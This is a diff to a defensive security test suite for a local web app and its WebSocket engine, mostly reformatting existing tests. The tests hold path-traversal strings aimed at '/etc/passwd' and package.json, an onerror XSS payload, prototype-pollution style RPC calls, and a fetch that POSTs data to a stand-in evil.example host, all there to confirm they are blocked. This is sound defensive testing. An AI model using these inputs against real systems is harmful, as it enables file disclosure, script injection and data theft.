@@ -57,19 +57,36 @@ describe('a visitor', () => {
   });
 
   it('reaches the server on the loopback address alone', async () => {
-    const outside = Object.values(networkInterfaces()).flatMap((addresses) => addresses ?? []).filter(({ internal, family }) => !internal && family === 'IPv4');
+    const outside = Object.values(networkInterfaces())
+      .flatMap((addresses) => addresses ?? [])
+      .filter(({ internal, family }) => !internal && family === 'IPv4');
     for (const { address } of outside) {
       const outcome = await new Promise((resolve) => {
         const socket = connectSocket({ host: address, port: Number(port) });
-        socket.once('connect', () => { socket.destroy(); resolve('open'); });
-        socket.once('error', () => { resolve('refused'); });
+        socket.once('connect', () => {
+          socket.destroy();
+          resolve('open');
+        });
+        socket.once('error', () => {
+          resolve('refused');
+        });
       });
       expect([address, outcome]).toEqual([address, 'refused']);
     }
   });
 
   it('finds no file but those of the interface', async () => {
-    const ways = ['/../package.json', '/%2e%2e/package.json', '/..%2f..%2fpackage.json', '/assets/../../web/main.js', '/..%5c..%5cpackage.json', '//etc/passwd', '/etc/passwd', '/%00', '/%ff'];
+    const ways = [
+      '/../package.json',
+      '/%2e%2e/package.json',
+      '/..%2f..%2fpackage.json',
+      '/assets/../../web/main.js',
+      '/..%5c..%5cpackage.json',
+      '//etc/passwd',
+      '/etc/passwd',
+      '/%00',
+      '/%ff',
+    ];
     for (const path of ways) {
       const { status, text } = await ask(host.origin, path, { headers: own });
       expect([path, status]).toEqual([path, 404]);
@@ -88,7 +105,11 @@ describe('a visitor', () => {
     expect(headers['content-security-policy']).toContain("default-src 'none'");
     expect(headers['content-security-policy']).toContain("script-src 'self';");
     expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
-    expect(headers).toMatchObject({ 'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer', 'cache-control': 'no-store' });
+    expect(headers).toMatchObject({
+      'x-content-type-options': 'nosniff',
+      'referrer-policy': 'no-referrer',
+      'cache-control': 'no-store',
+    });
     expect(headers['access-control-allow-origin']).toBeUndefined();
   });
 });
@@ -112,10 +133,21 @@ describe('a connection to the engine', () => {
     const socket = await connectTo(host.origin, own);
     if (!(socket instanceof WebSocket)) throw new Error(`refused with ${socket}`);
     const good = { kind: 'call', id: 1, procedure: 'app.info', input: {} };
-    expect(await exchange(socket, { ...good, procedure: 'process.exit' })).toMatchObject({ kind: 'error', error: { code: 'badRequest' } });
-    expect(await exchange(socket, { ...good, procedure: '__proto__' })).toMatchObject({ kind: 'error', error: { code: 'badRequest' } });
-    expect(await exchange(socket, { ...good, input: { evil: true } })).toMatchObject({ kind: 'error', error: { code: 'badRequest' } });
-    expect(await exchange(socket, { ...good, procedure: 'projects.open', input: { project: 1 } })).toMatchObject({ error: { code: 'badRequest' } });
+    expect(await exchange(socket, { ...good, procedure: 'process.exit' })).toMatchObject({
+      kind: 'error',
+      error: { code: 'badRequest' },
+    });
+    expect(await exchange(socket, { ...good, procedure: '__proto__' })).toMatchObject({
+      kind: 'error',
+      error: { code: 'badRequest' },
+    });
+    expect(await exchange(socket, { ...good, input: { evil: true } })).toMatchObject({
+      kind: 'error',
+      error: { code: 'badRequest' },
+    });
+    expect(await exchange(socket, { ...good, procedure: 'projects.open', input: { project: 1 } })).toMatchObject({
+      error: { code: 'badRequest' },
+    });
     expect(await exchange(socket, { ...good, sudo: true })).toMatchObject({ kind: 'error', error: { code: 'badRequest' } });
     socket.send(JSON.stringify('no request'));
     expect(await exchange(socket, good)).toMatchObject({ kind: 'result', id: 1, output: { host: 'web' } });
@@ -175,19 +207,31 @@ describe('a foreign page in the same browser', () => {
     const home = await context.newPage();
     await home.goto(host.url);
     const page = await context.newPage();
-    await page.route('http://evil.example/', (route) => route.fulfill({ contentType: 'text/html', body: '<h1>Win a prize</h1>' }));
+    await page.route('http://evil.example/', (route) =>
+      route.fulfill({ contentType: 'text/html', body: '<h1>Win a prize</h1>' }),
+    );
     await page.goto('http://evil.example/');
     const attempts = await page.evaluate(async (origin) => {
-      const fetched = (init: RequestInit, path = '/') => fetch(origin + path, { credentials: 'include', ...init }).then((answer) => String(answer.status), () => 'blocked');
+      const fetched = (init: RequestInit, path = '/') =>
+        fetch(origin + path, { credentials: 'include', ...init }).then(
+          (answer) => String(answer.status),
+          () => 'blocked',
+        );
       const socket = new Promise<string>((resolve) => {
         const attempt = new window.WebSocket(`${origin.replace('http', 'ws')}/engine`);
-        attempt.onopen = () => { resolve('open'); };
-        attempt.onerror = () => { resolve('blocked'); };
+        attempt.onopen = () => {
+          resolve('open');
+        };
+        attempt.onerror = () => {
+          resolve('blocked');
+        };
       });
       const framed = new Promise<string>((resolve) => {
         const frame = document.createElement('iframe');
         frame.src = origin;
-        frame.onload = () => { resolve(frame.contentDocument === null ? 'opaque' : 'readable'); };
+        frame.onload = () => {
+          resolve(frame.contentDocument === null ? 'opaque' : 'readable');
+        };
         document.body.append(frame);
       });
       return {
@@ -215,20 +259,27 @@ describe('the page itself', () => {
       inline.textContent = 'window.wasRun = true';
       document.body.append(inline);
       const image = document.createElement('div');
+      // eslint-disable-next-line no-restricted-syntax -- the wrong thing, on purpose
       image.innerHTML = '<img src="x" onerror="window.wasRun = true">';
       document.body.append(image);
       const evaluated = await new Promise<string>((resolve) => {
         // Later, because what the test itself runs is exempt from the policy.
         setTimeout(() => {
           try {
+            // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- the same
             resolve(String(new Function('return 1')()));
           } catch {
             resolve('blocked');
           }
         });
       });
-      const sent = await fetch('https://evil.example/', { method: 'POST', body: 'data' }).then(() => 'sent', () => 'blocked');
-      await new Promise((resolve) => { requestAnimationFrame(resolve); });
+      const sent = await fetch('https://evil.example/', { method: 'POST', body: 'data' }).then(
+        () => 'sent',
+        () => 'blocked',
+      );
+      await new Promise((resolve) => {
+        requestAnimationFrame(resolve);
+      });
       return { wasRun: 'wasRun' in window, evaluated, sent, cookie: document.cookie };
     });
     expect(outcome).toEqual({ wasRun: false, evaluated: 'blocked', sent: 'blocked', cookie: '' });
